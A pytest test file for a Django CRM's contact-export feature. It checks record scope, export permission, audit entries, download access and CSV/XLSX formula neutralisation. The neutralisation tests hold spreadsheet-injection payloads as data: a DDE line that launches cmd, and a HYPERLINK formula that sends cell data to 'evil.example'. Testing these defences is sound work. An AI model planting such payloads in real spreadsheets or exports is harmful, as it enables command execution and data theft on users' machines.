"""Exports: every matching row, record scope and the export permission, audit, formula
neutralisation, and downloads only by their owner or an admin."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse

from rapport.core.models import AuditLogEntry, Job
from rapport.core.permissions import Scope
from rapport.customers.models import Customer, CustomerTag, CustomFieldDefinition, Tag
from rapport.dataquality.exporting import BATCH, export_contacts, neutralise
from rapport.identity.tests.factories import UserFactory, user_with

pytestmark = pytest.mark.django_db

MANY = BATCH + 617  # crosses a keyset batch boundary; many times a list page (50)


def make_customers(n: int, owner: Any, **fields: Any) -> list[Customer]:
    return Customer.objects.bulk_create(
        [
            Customer(
                first_name="P",
                last_name=f"N{i}",
                display_name=f"P N{i}",
                owner=owner,
                primary_email=f"p{i}@example.com",
                country="FR",
                **fields,
            )
            for i in range(n)
        ],
        batch_size=500,
    )


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_export_contains_every_row_in_scope_and_nothing_else(tmp_path: Path) -> None:
    alice = user_with(Scope.OWN)
    bob = user_with(Scope.OWN)
    make_customers(MANY, alice)
    make_customers(25, bob)
    target = tmp_path / "alice.csv"
    count = export_contacts(actor=alice, filters={}, target=target, file_format="csv")
    rows = read(target)
    assert count == len(rows) == MANY
    ids = {int(r["id"]) for r in rows}
    assert ids == set(Customer.objects.filter(owner=alice).values_list("id", flat=True))


def test_export_needs_the_export_permission(tmp_path: Path) -> None:
    viewer = user_with(Scope.ALL, actions=("view", "edit"))
    make_customers(3, viewer)
    with pytest.raises(Exception, match="not allow exporting"):
        export_contacts(actor=viewer, filters={}, target=tmp_path / "x.csv", file_format="csv")
    assert not (tmp_path / "x.csv").exists()


def test_filters_custom_fields_and_audit(tmp_path: Path) -> None:
    CustomFieldDefinition.objects.create(key="tier", label="Tier", field_type="text")
    admin = user_with(Scope.ALL)
    vip = Tag.objects.create(name="vip")
    people = make_customers(10, admin, custom_fields={"tier": "gold"})
    CustomerTag.objects.bulk_create([CustomerTag(customer=c, tag=vip) for c in people[:4]])
    target = tmp_path / "vip.csv"
    count = export_contacts(actor=admin, filters={"tag": "vip"}, target=target, file_format="csv")
    rows = read(target)
    assert count == 4
    assert {r["tags"] for r in rows} == {"vip"}
    assert {r["cf:tier"] for r in rows} == {"gold"}
    entry = AuditLogEntry.objects.get(action="export")
    assert entry.object_type == "customers.customer"
    assert entry.changes == {"filters": {"tag": "vip"}, "rows": 4, "format": "csv"}
    assert entry.actor_id == admin.pk


@pytest.mark.parametrize(
    "payload", ["=1+1", "+A1", "-2+cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx", "+44 1 x"]
)
def test_formula_cells_are_neutralised_in_csv_and_xlsx(tmp_path: Path, payload: str) -> None:
    from openpyxl import load_workbook

    admin = user_with(Scope.ALL)
    Customer.objects.create(first_name=payload, last_name="X", display_name="x", owner=admin)
    export_contacts(actor=admin, filters={}, target=tmp_path / "f.csv", file_format="csv")
    assert read(tmp_path / "f.csv")[0]["first_name"] == "'" + payload
    export_contacts(actor=admin, filters={}, target=tmp_path / "f.xlsx", file_format="xlsx")
    sheet = load_workbook(tmp_path / "f.xlsx", read_only=True).worksheets[0]
    header, row = list(sheet.iter_rows(values_only=True))
    # XML stores a carriage return as a line feed; the leading quote is what matters.
    assert row[header.index("first_name")] == "'" + payload.replace("\r", "\n")
    assert neutralise("plain") == "plain"


@pytest.mark.parametrize("phone", ["+44 20 7946 0958", "+1 (555) 010-4477", "-12.5", "+33/1.23"])
def test_signed_numbers_and_phones_are_kept_as_text_without_an_apostrophe(
    tmp_path: Path, phone: str
) -> None:
    """A sign followed only by digits and separators names no function or cell: it is a
    value, and an apostrophe would corrupt it (issue 17: `'+4420…` in exported XLSX)."""
    from openpyxl import load_workbook

    admin = user_with(Scope.ALL)
    Customer.objects.create(
        first_name=phone, last_name="X", display_name="x", owner=admin, primary_phone=phone
    )
    export_contacts(actor=admin, filters={}, target=tmp_path / "f.csv", file_format="csv")
    assert read(tmp_path / "f.csv")[0]["phone"] == phone
    export_contacts(actor=admin, filters={}, target=tmp_path / "f.xlsx", file_format="xlsx")
    sheet = load_workbook(tmp_path / "f.xlsx").worksheets[0]
    header = [c.value for c in sheet[1]]
    for column in ("phone", "first_name"):
        cell = sheet.cell(row=2, column=header.index(column) + 1)
        assert (cell.value, cell.data_type) == (phone, "s")  # typed as text, not a formula


def test_header_names_are_neutralised_in_csv_and_xlsx(tmp_path: Path) -> None:
    """Custom field keys become column names: they go through the same rule as cells."""
    from openpyxl import load_workbook

    from rapport.core.spreadsheets import csv_writer, write_xlsx

    evil = '=HYPERLINK("http://evil.example/?x="&A2;"click")'
    with (tmp_path / "h.csv").open("w", newline="") as out:
        csv_writer(out).writerow([evil, "+44 20 7946 0958", "ok"])
    assert next(csv.reader((tmp_path / "h.csv").open())) == [
        "'" + evil,
        "+44 20 7946 0958",
        "ok",
    ]
    write_xlsx(tmp_path / "h.xlsx", sheet="x", rows=[[evil]])
    cell = load_workbook(tmp_path / "h.xlsx").worksheets[0]["A1"]
    assert (cell.value, cell.data_type) == ("'" + evil, "s")


def test_xlsx_export_has_every_row(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    admin = user_with(Scope.ALL)
    make_customers(MANY, admin)
    export_contacts(
        actor=admin, filters={"country": "fr"}, target=tmp_path / "a.xlsx", file_format="xlsx"
    )
    rows = list(
        load_workbook(tmp_path / "a.xlsx", read_only=True).worksheets[0].iter_rows(values_only=True)
    )
    assert len(rows) == MANY + 1


def login(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_ui_export_job_and_download_only_by_owner_or_admin(
    immediate_tasks: None, django_capture_on_commit_callbacks: Any
) -> None:
    owner = user_with(Scope.OWN)
    make_customers(60, owner)
    make_customers(5, UserFactory())
    client = login(owner)
    page = client.get(
        reverse("dataquality:export_new") + "?object_type=customers.customer&country=FR"
    )
    assert page.status_code == 200 and b"60" in page.content
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("dataquality:export_new") + "?object_type=customers.customer&country=FR",
            {"format": "csv"},
        )
    job = Job.objects.get(kind="export")
    assert response.status_code == 302 and response["Location"] == reverse(
        "core:job_detail", args=[job.pk]
    )
    job.refresh_from_db()
    assert job.status == "succeeded", job.error
    assert job.result == {"rows": 60, "format": "csv"}
    assert (Path(settings.VAR_DIR) / "files" / job.result_file).is_file()
    url = reverse("core:job_download", args=[job.pk])
    download = client.get(url)
    assert download.status_code == 200
    body = b"".join(download.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    assert len(body.strip().splitlines()) == 61
    stranger = user_with(Scope.ALL)
    assert login(stranger).get(url).status_code == 404
    admin = UserFactory(is_superuser=True)
    assert login(admin).get(url).status_code == 200


def test_export_page_refuses_users_without_export_permission() -> None:
    viewer = user_with(Scope.ALL, actions=("view",))
    assert login(viewer).get(reverse("dataquality:export_new")).status_code == 403


def test_export_takes_the_list_pages_filters_so_it_holds_exactly_the_listed_rows(
    tmp_path: Path,
) -> None:
    """Any list filter (city, a custom field, several tags) narrows the export the same way."""
    from rapport.customers.selectors import customer_list

    owner = user_with(Scope.ALL)
    CustomFieldDefinition.objects.create(
        key="tier", label="Tier", field_type="choice", choices=["gold", "silver"]
    )
    lyon = make_customers(6, owner, city="Lyon", custom_fields={"tier": "gold"})
    make_customers(4, owner, city="Lyon", custom_fields={"tier": "silver"})
    make_customers(5, owner, city="Paris", custom_fields={"tier": "gold"})
    vip, b2b = Tag.objects.create(name="vip"), Tag.objects.create(name="b2b")
    CustomerTag.objects.bulk_create(
        [CustomerTag(customer=c, tag=t) for c in lyon[:3] for t in (vip, b2b)]
        + [CustomerTag(customer=lyon[3], tag=vip)]
    )
    filters: dict[str, Any] = {"city": "Lyon", "cf_tier": "gold", "tag": ["vip", "b2b"]}
    target = tmp_path / "filtered.csv"
    count = export_contacts(actor=owner, filters=filters, target=target, file_format="csv")
    listed = set(customer_list(actor=owner, filters=filters).values_list("id", flat=True))
    assert count == 3
    assert {int(r["id"]) for r in read(target)} == listed == {c.pk for c in lyon[:3]}


def test_an_unknown_or_bad_filter_is_refused_with_its_name(tmp_path: Path) -> None:
    from rapport.dataquality.exporting import ExportError

    owner = user_with(Scope.ALL)
    target = tmp_path / "x.csv"
    with pytest.raises(ExportError, match="Unknown filter 'password'"):
        export_contacts(actor=owner, filters={"password": "x"}, target=target, file_format="csv")
    with pytest.raises(ExportError, match="custom field"):
        export_contacts(actor=owner, filters={"cf_nope": "x"}, target=target, file_format="csv")
